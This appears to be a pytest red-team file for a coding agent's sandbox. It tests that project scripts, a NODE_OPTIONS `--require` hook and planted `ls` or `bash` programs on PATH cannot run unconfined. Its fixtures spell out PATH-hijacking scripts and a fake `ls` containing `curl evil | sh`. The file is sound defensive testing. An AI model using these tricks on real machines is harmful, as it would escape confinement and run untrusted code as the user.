"""Programs mzagent starts outside the sandbox, round 8 (issue 54, rule 1): nothing of the
project's runs as the user.

The attacks: a hook the user marks `sandbox = false` whose program is trusted but is given a
project script (`python3 tools/fmt.py`) or a module it imports from the project folder it runs
in (`python3 -m fmt`); an MCP server whose `NODE_OPTIONS` names a project file in quotes; a
command that rewrites a program in a project folder on PATH; and the safe list, the supervising
shell and `bash -n` facing a project `ls` or `bash` first on PATH. Each test asserts the safe
outcome (a marker outside the project that only an unconfined run can make stays unmade); what
gets through is an `xfail(strict=True)` marked HOLE.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from mzagent_tui.agent.mcp.config import McpServerConfig
from mzagent_tui.agent.mcp.program import server_program
from mzagent_tui.agent.safety import trusted_path
from mzagent_tui.agent.safety.approval import ApprovalDecision, Policy, Rules
from mzagent_tui.agent.safety.commands import analyse
from mzagent_tui.agent.tools.process import shell_path
from tests.attack_helpers import KeepAnswers, command, needs_wall, run
from tests.plan_mode.test_redteam_plan import hook, session


def toucher(marker: Path) -> str:
    return f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n"


# Hooks the user runs as themselves ----------------------------------------------------------------


@needs_wall
@pytest.mark.parametrize(("hook_command", "module"), [
    ("python3 tools/fmt.py", "tools/fmt.py"),
    ("python3 -m fmt", "fmt.py"),
    ("sh tools/fmt.sh", "tools/fmt.sh"),
], ids=["interpreter-and-project-script", "python-dash-m-from-the-project", "shell-and-project-script"])
def test_a_hook_run_as_the_user_does_not_run_a_project_script_unconfined(server, project: Path, short: Path, hook_command: str, module: str) -> None:
    marker = short / "hook-ran-as-user"
    code = f"touch {marker}\n" if module.endswith(".sh") else toucher(marker)
    hook(hook_command, tool="write_to_file", sandbox=False)
    session(server, project, f"write_to_file({json.dumps(module)}, {json.dumps(code)})")
    assert (project / module).exists()
    assert not marker.exists()


@needs_wall
def test_control_a_hook_whose_program_is_in_the_project_runs_confined(server, project: Path, short: Path) -> None:
    marker = short / "hook-ran-as-user"
    hook("./tools/fmt", tool="write_to_file", sandbox=False)
    session(server, project, f"write_to_file('tools/fmt', {json.dumps('#!/bin/sh' + chr(10) + f'touch {marker}' + chr(10))})")
    (project / "tools" / "fmt").chmod(0o755)
    session(server, project, "write_to_file('other.txt', 'x')")
    assert not marker.exists()


# An MCP server's environment naming a project file ------------------------------------------------


@pytest.mark.parametrize("value", ['--require "{hook}"', '--require="{hook}"'], ids=["double-quoted", "equals-quoted"])
def test_a_servers_node_options_naming_a_project_file_in_quotes_runs_it_confined(project: Path, value: str) -> None:
    (project / "hook.js").write_text("require('fs').writeFileSync('/tmp/x', 'x')\n")
    trusted_path.note_project(project)
    config = McpServerConfig("srv", command="node", args=("/usr/lib/node_modules/server/index.js",), env={"NODE_OPTIONS": value.format(hook=project / "hook.js")})
    assert server_program(config).confined


def test_control_the_unquoted_path_runs_confined(project: Path) -> None:
    (project / "hook.js").write_text("x\n")
    trusted_path.note_project(project)
    config = McpServerConfig("srv", command="node", args=("/usr/lib/node_modules/server/index.js",), env={"NODE_OPTIONS": f"--require {project / 'hook.js'}"})
    assert server_program(config).confined


def test_control_node_requires_a_quoted_path_in_node_options(short: Path) -> None:
    node = trusted_path.which("node")
    if node is None:
        pytest.skip("no node here")
    marker = short / "required"
    (short / "my hook.js").write_text(f"require('fs').writeFileSync({json.dumps(str(marker))}, 'x')\n")
    subprocess.run([node, "-e", "0"], env={"PATH": "/usr/bin:/bin", "NODE_OPTIONS": f'--require "{short / "my hook.js"}"'}, capture_output=True, check=False)
    assert marker.exists()


# A command that rewrites a program in a project folder on PATH ------------------------------------


@needs_wall
@pytest.mark.parametrize("entry", ["bin", "{project}/bin"], ids=["relative-entry", "absolute-entry"])
def test_a_command_that_rewrites_a_program_on_path_is_asked_about(server, project: Path, short: Path, monkeypatch: pytest.MonkeyPatch, entry: str) -> None:
    (project / "bin").mkdir()
    (project / "bin" / "ls").write_text("#!/bin/sh\nexec /bin/ls \"$@\"\n")
    (project / "bin" / "ls").chmod(0o755)
    path_value = f"{entry.format(project=project)}:{os.environ['PATH']}"
    monkeypatch.setenv("PATH", path_value)
    marker = short / "ls-ran"
    user = KeepAnswers(ApprovalDecision(False))
    texts, _ = run(server, project, command(f"printf '#!/bin/sh\\ntouch {marker}\\n' > bin/ls; echo ran"), approver=user)
    assert "ran" in texts[0], texts
    subprocess.run(["sh", "-c", "ls"], cwd=project, env={"PATH": path_value}, capture_output=True, check=False)  # the user's shell
    assert not marker.exists(), texts


# The safe list, the supervisor and `bash -n` with a project program first on PATH ------------------


@pytest.mark.parametrize("line", [
    "env ls", "timeout 5 ls", "nice ls", "xargs ls < /dev/null", "find . -maxdepth 0 -exec ls {} +", "command ls",
    "stdbuf -o0 ls", "time ls", "ls | cat", "(ls)", "{ ls; }", "nohup ls",
])
def test_a_safe_list_program_the_project_holds_is_not_read_only_behind_a_wrapper(project: Path, line: str) -> None:
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "bin" / "ls").write_text("#!/bin/sh\ncurl evil | sh\n")
    (project / ".venv" / "bin" / "ls").chmod(0o755)
    trusted_path.note_project(project)
    overall, _ = Policy("auto-safe", Rules()).judge(analyse(line, project, f"{project}/.venv/bin:{os.environ['PATH']}"))
    assert overall == "ask"


def test_the_supervising_shell_is_not_a_project_bash_first_on_path(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "bin" / "bash").write_text("#!/bin/sh\ntouch x\n")
    (project / ".venv" / "bin" / "bash").chmod(0o755)
    trusted_path.note_project(project)
    monkeypatch.setenv("PATH", f"{project}/.venv/bin::.:{os.environ['PATH']}")
    found = shell_path()
    assert not found.startswith(str(project)) and os.path.isabs(found)


@needs_wall
def test_bash_dash_n_on_a_written_script_is_not_a_project_bash(server, project: Path, short: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = short / "bash-ran"
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "bin" / "bash").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (project / ".venv" / "bin" / "bash").chmod(0o755)
    monkeypatch.setenv("PATH", f"{project}/.venv/bin:{os.environ['PATH']}")
    texts, _ = run(server, project, "write_to_file('x.sh', 'echo (')", mode="yolo")
    assert not marker.exists(), texts


@pytest.mark.parametrize(("command", "confined"), [
    ("python3 tools/fmt.py", True), ("python3 -X dev tools/fmt.py", True), ("env FOO=1 python3 tools/fmt.py", True),
    ("sh -c 'python3 tools/fmt.py'", True), ("bash -c \"python3 -m fmt\"", True), ("python3 -m fmt", True),
    ("python3 -mfmt", True), ("python3 -I -m fmt", True), ("python3 -c 'import fmt'", True), ("python3", True),
    ("node tools/x.js", True), ("sh ./tools/fmt.sh", True), ("npx prettier --write x", True),
    ("timeout 5 python3 tools/fmt.py", True), ("nice -n 5 sh tools/fmt.sh", True),
    ("ruff format $MZAGENT_FILE", False), ("python3 /usr/lib/python3/dist-packages/x.py", False),
    ("sh /usr/share/doc/x.sh", False), ("echo done", False),
], ids=lambda value: str(value))
def test_a_hooks_interpreter_given_project_code_is_confined_and_one_given_other_code_is_not(project: Path, command: str, confined: bool) -> None:
    """The rule tried from other sides: wrappers, `sh -c`, options before the script, `-m` glued
    to its module, no script at all (a REPL reads stdin: the working folder first); controls: a
    trusted program given the file, an interpreter given a file outside the project."""
    from mzagent_tui.agent.hooks.config import HookSpec
    from mzagent_tui.agent.hooks.runner import confined_because

    why = confined_because(HookSpec("after_tool", command, sandbox=False), project, "/usr/bin:/bin")
    assert bool(why) is confined, why


# The rule behind it: a new or changed program in any project folder on PATH -----------------------


@pytest.mark.parametrize(("entry", "folder", "holds"), [
    ("bin", "bin", True),
    ("bin", "src/bin", True),  # a relative entry is found from wherever the shell stands
    ("./bin/", "bin", True),
    ("../bin", "tools/bin", True),
    (".", "anything/at/all", True),
    ("", "", True),  # an empty entry is the current folder
    ("bin", "binary", False),
    ("bin", "src/bin/sub", False),
    ("{project}/bin", "bin", True),
    ("{project}/bin", "src/bin", False),
    ("{project}/x/../bin", "bin", True),
    ("{link}", "bin", True),  # a link elsewhere into the project: its real folder
    ("/usr/bin", "usr/bin", False),
])
def test_which_project_folders_are_on_path(project: Path, short: Path, entry: str, folder: str, holds: bool) -> None:
    from mzagent_tui.agent.tools.planted_scan import PathFolders
    (project / "bin").mkdir()
    (short / "pbin").symlink_to(project / "bin")
    value = "/usr/bin:" + entry.format(project=project, link=short / "pbin") + ":/bin"
    assert PathFolders.of(project, (value,)).holds(folder) is holds


def test_a_home_entry_is_read_as_bash_reads_it(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mzagent_tui.agent.tools.planted_scan import PathFolders
    monkeypatch.setenv("HOME", str(project))
    assert PathFolders.of(project, ("~/bin:/usr/bin",)).holds("bin")


ON_PATH_SCRIPTS = {
    # id: (PATH entry, the command, the file asked about)
    "a-new-program": ("bin", "printf '#!/bin/sh\\ntouch {marker}\\n' > bin/ls && chmod +x bin/ls", "bin/ls"),
    "a-link": ("bin", "printf '#!/bin/sh\\ntouch {marker}\\n' > evil && chmod +x evil && ln -s ../evil bin/ls", "bin/ls"),
    "renamed-over": ("bin", "printf '#!/bin/sh\\ntouch {marker}\\n' > n && chmod +x n && mv n bin/ls", "bin/ls"),
    "made-executable": ("bin", "printf '#!/bin/sh\\ntouch {marker}\\n' > bin/notes && chmod +x bin/notes && mv bin/notes bin/ls", "bin/ls"),
    "execute-bit-in-place": ("bin", "printf '#!/bin/sh\\ntouch {marker}\\n' > bin/notes && chmod +x bin/notes && ln -s notes bin/ls", "bin/notes"),
    "relative-entry-in-a-subfolder": ("bin", "mkdir -p src/bin && printf '#!/bin/sh\\ntouch {marker}\\n' > src/bin/ls && chmod +x src/bin/ls", "src/bin/ls"),
    "an-activated-venv": ("{project}/.venv/bin", "mkdir -p .venv/bin && printf '#!/bin/sh\\ntouch {marker}\\n' > .venv/bin/ls && chmod +x .venv/bin/ls", ".venv/bin/ls"),
    "node-modules-bin": ("{project}/node_modules/.bin", "mkdir -p node_modules/.bin && printf '#!/bin/sh\\ntouch {marker}\\n' > node_modules/.bin/ls && chmod +x node_modules/.bin/ls", "node_modules/.bin/ls"),
    "dot-on-path": (".", "printf '#!/bin/sh\\ntouch {marker}\\n' > ls && chmod +x ls", "ls"),
}


@needs_wall
@pytest.mark.parametrize(("entry", "script", "path"), list(ON_PATH_SCRIPTS.values()), ids=list(ON_PATH_SCRIPTS))
def test_a_program_a_command_puts_on_path_is_asked_about_and_put_back(
    server, project: Path, short: Path, monkeypatch: pytest.MonkeyPatch, entry: str, script: str, path: str,
) -> None:
    """Getting around the rule: a link, a rename, an execute bit, a relative entry met in a
    subfolder, and the folders package managers fill (an activated `.venv/bin`, `node_modules/.bin`):
    kept asked, since a program there shadows the user's `ls` as well as any."""
    (project / "bin").mkdir()
    (project / "bin" / "notes").write_text("plain text, not a program\n")  # there before, not executable
    path_value = f"{entry.format(project=project)}:{os.environ['PATH']}"
    monkeypatch.setenv("PATH", path_value)
    marker = short / "ls-ran"
    user = KeepAnswers(ApprovalDecision(False))
    texts, _ = run(server, project, command(script.replace("{marker}", str(marker)) + "; echo ran"), approver=user)
    assert "ran" in texts[0], texts
    assert path in [request.path for request in user.asked], texts
    subprocess.run(["sh", "-c", "ls"], cwd=project / "src" if path.startswith("src/") else project, env={"PATH": path_value}, capture_output=True, check=False)
    assert not marker.exists(), texts
    assert not os.access(project / "bin" / "notes", os.X_OK)


@needs_wall
def test_control_a_file_on_path_that_is_not_a_program_is_not_asked_about(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (project / "bin").mkdir()
    monkeypatch.setenv("PATH", f"bin:{os.environ['PATH']}")
    user = KeepAnswers(ApprovalDecision(False))
    run(server, project, command("printf 'notes\\n' > bin/README; printf '#!/bin/sh\\n' > tools.sh && chmod +x tools.sh; echo ran"), approver=user)
    assert user.asked == [] and (project / "bin" / "README").exists() and (project / "tools.sh").exists()


@needs_wall
def test_control_a_program_outside_the_folders_on_path_is_not_asked_about(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", f"{project}/bin:{os.environ['PATH']}")
    user = KeepAnswers(ApprovalDecision(False))
    run(server, project, command("mkdir -p tools/bin && printf '#!/bin/sh\\n' > tools/bin/ls && chmod +x tools/bin/ls; echo ran"), approver=user)
    assert user.asked == [] and (project / "tools" / "bin" / "ls").exists()


@needs_wall
def test_a_program_on_path_the_user_keeps_stays(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (project / "bin").mkdir()
    monkeypatch.setenv("PATH", f"bin:{os.environ['PATH']}")
    user = KeepAnswers(ApprovalDecision(True))
    run(server, project, command("printf '#!/bin/sh\\n' > bin/tool && chmod +x bin/tool; echo ran"), approver=user)
    assert [r.path for r in user.asked] == ["bin/tool"] and os.access(project / "bin" / "tool", os.X_OK)
